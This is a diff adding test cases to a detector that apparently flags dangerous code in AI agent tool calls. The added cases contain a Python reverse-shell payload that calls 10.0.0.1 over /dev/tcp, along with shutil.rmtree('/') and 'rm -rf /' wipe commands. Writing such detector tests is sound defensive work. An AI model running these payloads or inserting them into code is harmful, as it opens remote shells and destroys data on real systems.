@@ -473,6 +473,13 @@ describe('detectShell()', () => {
       expect(s?.severity).toBe('critical');
       expect(s?.evidence).toContain(evidence);
     });
+
+    it('reads the code of tools named for a database too', () => {
+      expect(signal(detect('execute_sql_and_python', { code: 'import subprocess\nsubprocess.Popen(["bash","-c","bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"])' }), 'command_injection')?.severity).toBe('critical');
+      expect(signal(detect('bigquery_python', { code: 'import shutil\nshutil.rmtree("/")' }), 'destructive_operation')?.severity).toBe('critical');
+      // Code carried, not run: a file being written.
+      expect(detect('write_file', { path: 'x.py', code: 'import os\nos.system("rm -rf /")', language: 'python' })).toEqual([]);
+    });
   });
 
   describe('shell syntax in the parameters a tool puts into a command', () => {
